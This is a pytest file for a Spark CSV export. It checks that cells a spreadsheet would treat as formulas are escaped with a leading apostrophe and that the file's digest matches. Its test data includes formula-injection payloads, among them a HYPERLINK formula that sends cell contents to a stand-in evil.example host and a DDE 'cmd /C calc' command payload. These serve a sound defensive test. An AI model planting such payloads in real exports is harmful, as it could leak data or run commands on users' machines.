"""CSV files that a spreadsheet opens: no cell begins a formula, and all other texts stay as they are."""

from __future__ import annotations

import csv
import hashlib
from pathlib import Path

import pytest
from pyspark.sql import SparkSession

from lam_spark.delivery.export import write_csv
from lam_spark.storage.dataframes import local_frame

# Texts that some spreadsheet takes for a formula, and the cells in the file.
FORMULAS = {
    '=HYPERLINK("http://evil.example/?"&B2)': '\'=HYPERLINK("http://evil.example/?"&B2)',
    "+1": "'+1",
    "-1+1": "'-1+1",
    "@SUM(1+1)*cmd": "'@SUM(1+1)*cmd",
    " \t =1+1": "' \t =1+1",
    "\"=cmd|' /C calc'!A0": "'\"=cmd|' /C calc'!A0",
    "'=1": "''=1",
    "\ttabbed": "'\ttabbed",
    "\rreturned": "'\rreturned",
    "offer;=1+1": "offer;'=1+1",
    "two\n=1+1": "two\n'=1+1",
    "\uff1d1+1": "'\uff1d1+1",
}
HARMLESS = ['20" pizza, "free"', "1 + 1 = 2", "a-b", "me@shop.example", " spaces ", "Größe \U0001f600", ""]


@pytest.fixture(scope="module")
def file(spark: SparkSession, tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    """A CSV file with all texts in order, and its sha256."""
    rows = [(number, text) for number, text in enumerate([*FORMULAS, *HARMLESS])]
    path = tmp_path_factory.mktemp("export") / "delivery" / "list.csv"
    frame = local_frame(spark, rows, "rank INT, description STRING").orderBy("rank")
    return path, write_csv(frame, path)


def test_no_cell_begins_a_formula(file: tuple[Path, str]) -> None:
    with file[0].open(encoding="utf-8", newline="") as opened:
        rows = list(csv.DictReader(opened))
    assert [row["description"] for row in rows] == [*FORMULAS.values(), *HARMLESS]
    assert [row["rank"] for row in rows] == [str(number) for number in range(len(rows))]


def test_every_cell_is_quoted_and_the_digest_is_that_of_the_file(file: tuple[Path, str]) -> None:
    content = file[0].read_bytes()
    assert content.startswith(b'"rank","description"\n"0","')
    assert file[1] == hashlib.sha256(content).hexdigest()
    assert [path.name for path in file[0].parent.iterdir() if path.name[0] != "."] == ["list.csv"]
